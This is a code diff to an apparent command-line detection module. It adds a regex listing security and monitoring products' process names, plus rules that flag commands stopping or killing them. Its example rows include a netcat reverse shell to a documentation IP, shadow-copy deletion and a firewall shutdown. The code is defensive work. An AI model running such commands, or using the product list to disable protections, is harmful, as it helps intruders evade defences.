@@ -16,6 +16,17 @@ from longtail.executions.meaning import (
 )
 
 _STOP_OPTIONS = r"-(?:im|pid|fi|f)\b"
+_PROTECTION = (
+    r"\b(?:msmpeng|nissrv|windefend|wdnissvc|wdfilter|sense|mssense|securityhealthservice|wscsvc|sysmon(?:64|drv)?"
+    r"|360\w+|zhudongfangyu|qqpc\w+|avp|avpsus|kav\w*|klnagent|ekrn|egui|mcshield|masvc|mfe\w+|ccsvchst|rtvscan"
+    r"|sepmasterservice|sav(?:service|adminservice)|sophos[\w -]*|sentinel(?:agent|one|\w*service\w*)|csfalcon\w*"
+    r"|csagent|cbdefense|carbonblack\w*|repmgr|xagt|cylance\w*|bdagent|vsserv|epsecurityservice|avast\w*|avg(?:svc|ui)"
+    r"|ntrtscan|tmlisten|tmccsf|ds_agent|wrsa|mbam\w*|cyserver|cortex\w*|wdavdaemon|mdatp|falcon-sensor|auditd|ossec\w*"
+    r"|wazuh\w*|osqueryd|elastic-(?:agent|endpoint)|aliyundun\w*|aliyun\w*|cloudmonitor|ydservice|qcloud\w*|clamd"
+    r"|apparmor|fail2ban)\b"
+)
+"""The processes and services of protection products that intruders stop first, as their vendors name them."""
+
 TRAITS: tuple[Row, ...] = (
     Row(
         Trait.REMOTE_ARGUMENT,
@@ -67,7 +78,7 @@ TRAITS: tuple[Row, ...] = (
     ),
     Row(
         Trait.HANDS_ON_A_SHELL,
-        ("cmd", "powershell", "sh -"),
+        ("cmd", "powershell", "pwsh", "sh -", "/sh", "bash", "/dash", "/zsh"),
         hands_on_a_shell,
         ('C:\\Temp\\x.exe -i -c "cmd /c whoami"', 'nc -e "/bin/sh -i" 198.51.100.4 443'),
         ('forfiles /p D:\\bak /c "cmd /c del @path"', "powershell -File C:\\jobs\\a.ps1"),
@@ -181,6 +192,11 @@ TRAITS: tuple[Row, ...] = (
                 "ufw": r"^disable\b",
                 "setenforce": r"^(?:0|permissive)\b",
                 "history": r"-c\b",
+                "taskkill tskill pskill pskill64 pkill killall stop-process stop-service spps spsv kill": _PROTECTION,
+                "ntsd cdb windbg": rf"-pn?\b.*{_PROTECTION}",
+                "sc": rf"\b(?:stop|delete|config)\b.*{_PROTECTION}",
+                "net net1": rf"^stop\b.*{_PROTECTION}",
+                "systemctl service": rf"\b(?:stop|disable|mask|kill)\b.*{_PROTECTION}|{_PROTECTION}.*\bstop\b",
             }
         ),
         ("vssadmin  delete shadows /all /quiet", "cmd /c netsh advfirewall set allprofiles state off"),
